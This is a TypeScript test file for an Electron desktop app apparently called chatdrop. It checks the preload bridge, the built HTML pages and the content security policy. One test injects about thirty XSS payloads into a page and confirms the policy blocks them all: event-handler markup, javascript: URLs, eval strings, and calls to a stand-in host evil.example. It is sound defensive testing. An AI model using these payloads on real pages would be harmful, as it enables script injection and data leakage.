import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { Script, createContext } from 'node:vm';
import { expect, test } from 'vitest';
import { openChromium } from '../../support/chromium.ts';
import { CONTENT_POLICY } from '#desktop/shell/security/content-policy.ts';
import { readPageFiles, respond } from '#desktop/shell/security/page-files.ts';

const DIST = 'dist/desktop';

function built(folder: string, extension: string) {
  return readdirSync(join(DIST, folder), { recursive: true, encoding: 'utf8' })
    .filter((name) => name.endsWith(extension))
    .map((name) => ({ name, text: readFileSync(join(DIST, folder, name), 'utf8') }));
}

test('points 4, 20: the preload script asks for electron alone and gives the page three plain functions', () => {
  const [preload, ...others] = built('preload', '.cjs');
  const exposed = new Map<string, unknown>();
  const asked: string[] = [];
  const electron = {
    contextBridge: { exposeInMainWorld: (name: string, api: unknown) => exposed.set(name, api) },
    ipcRenderer: { invoke: () => undefined, on: () => undefined, off: () => undefined, secret: 1 },
    webUtils: { getPathForFile: () => '' },
  };

  new Script(preload?.text ?? '').runInContext(
    createContext({ require: (name: string) => (asked.push(name), electron), module: {}, exports: {} }),
  );

  expect(others).toEqual([]);
  expect(asked).toEqual(['electron']);
  expect([...exposed.keys()]).toEqual(['chatdrop']);
  const api = exposed.get('chatdrop') as Readonly<Record<string, unknown>>;
  expect(Object.keys(api).sort()).toEqual(['call', 'drop', 'listen']);
  expect(Object.values(api).every((member) => typeof member === 'function')).toBe(true);
});

test('point 7: the built pages hold nothing inline and load nothing from elsewhere', () => {
  const pages = built('renderer', '.html');
  expect(pages.map(({ name }) => name).sort()).toEqual(['popover.html', 'window.html']);
  for (const { name, text } of pages) {
    expect(text, name).not.toMatch(/<script(?![^>]*\ssrc=)[^>]*>|<style|\sstyle=|\son\w+=|https?:\/\//);
  }
});

test('main is built without developer tools, and keeps the names of what Node brings', () => {
  const text = built('main', '.js')
    .map((file) => file.text)
    .join('\n');

  expect(text).toMatch(/devTools: false/);
  expect(text).toMatch(/from "node:sqlite"/);
});

test(
  'point 7: thirty ways to run something in a page are stopped by the policy',
  { timeout: 60_000 },
  async () => {
    const files = readPageFiles(join(DIST, 'renderer'));
    const browser = await openChromium();
    const page = await browser.newPage();
    const left: string[] = [];
    await page.route('**/*', async (route) => {
      const url = new URL(route.request().url());
      if (url.host !== 'chatdrop.invalid') {
        left.push(url.href);
        return route.abort();
      }
      const request = { method: 'GET', url: `app://chatdrop${url.pathname}` };
      const answer = respond(files, request, () => ({ locale: 'en', theme: 'system' }));
      await route.fulfill({
        status: answer.status,
        headers: Object.fromEntries(answer.headers),
        body: Buffer.from(await answer.arrayBuffer()),
      });
    });
    const answer = await page.goto('https://chatdrop.invalid/popover.html');
    expect(answer?.headers()['content-security-policy']).toBe(CONTENT_POLICY);

    const ran = await page.evaluate(attacks);

    expect(ran).toEqual([]);
    expect(left).toEqual([]);
  },
);

/** Runs in the page. Names of the attacks that got through. */
async function attacks(): Promise<string[]> {
  const page = globalThis as unknown as {
    document: { createElement(name: string): Record<string, unknown>; body: { append(node: unknown): void } };
    got: Set<string>;
    setTimeout(code: unknown, ms: number): void;
    eval(code: string): unknown;
    Function: new (code: string) => () => unknown;
    fetch(url: string): Promise<unknown>;
    Worker: new (url: string) => unknown;
    WebSocket: new (url: string) => unknown;
    EventSource: new (url: string) => unknown;
    navigator: {
      sendBeacon(url: string): boolean;
      serviceWorker: { register(url: string): Promise<unknown> };
    };
  };
  page.got = new Set();
  const markup = [
    '<img src=x onerror="got.add(`img`)">',
    '<svg onload="got.add(`svg`)">',
    '<iframe srcdoc="<script>parent.got.add(`srcdoc`)</script>">',
    '<iframe src="javascript:parent.got.add(`frame`)">',
    '<a href="javascript:got.add(`link`)" id=a>x</a>',
    '<form action="javascript:got.add(`form`)"><input type=submit></form>',
    '<object data="javascript:got.add(`object`)">',
    '<embed src="javascript:got.add(`embed`)">',
    '<details open ontoggle="got.add(`toggle`)">',
    '<video src=x onerror="got.add(`video`)">',
    '<body onload="got.add(`body`)">',
    '<input autofocus onfocus="got.add(`focus`)">',
    '<marquee onstart="got.add(`marquee`)">',
    '<style>@import "https://evil.example/a.css"</style>',
    '<link rel=stylesheet href="https://evil.example/b.css">',
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  ];
  const attempts: (() => unknown)[] = [
    ...markup.map((text) => () => {
      const place = page.document.createElement('div');
      place['innerHTML'] = text;
      page.document.body.append(place);
    }),
    () => page.eval('got.add("eval")'),
    () => new page.Function('got.add("Function")')(),
    () => page.setTimeout('got.add("timeout")', 0),
    ...['got.add("script")', 'import("https://evil.example/m.js")'].map((text) => () => {
      const script = page.document.createElement('script');
      script['textContent'] = text;
      page.document.body.append(script);
    }),
    ...['https://evil.example/s.js', 'data:text/javascript,got.add("data")'].map((source) => () => {
      const script = page.document.createElement('script');
      script['src'] = source;
      page.document.body.append(script);
    }),
    () => {
      const picture = page.document.createElement('img');
      picture['src'] = 'https://evil.example/pixel.png';
      page.document.body.append(picture);
    },
    () => page.fetch('https://evil.example/').then(() => page.got.add('fetch')),
    () => new page.Worker('data:text/javascript,0') && page.got.add('worker'),
    () => new page.WebSocket('wss://evil.example/'),
    () => new page.EventSource('https://evil.example/'),
    () => page.navigator.sendBeacon('https://evil.example/'),
    () => page.navigator.serviceWorker.register('data:text/javascript,0').then(() => page.got.add('sw')),
  ];
  for (const attempt of attempts) {
    // In a turn of its own: what a debugger evaluates itself may use `eval` whatever the policy says.
    await new Promise<void>((done) => {
      globalThis.setTimeout(() => {
        Promise.resolve()
          .then(attempt)
          .catch(() => undefined) // stopped before it began
          .finally(done);
      });
    });
  }
  await new Promise((resolve) => globalThis.setTimeout(resolve, 500));
  return [...page.got];
}
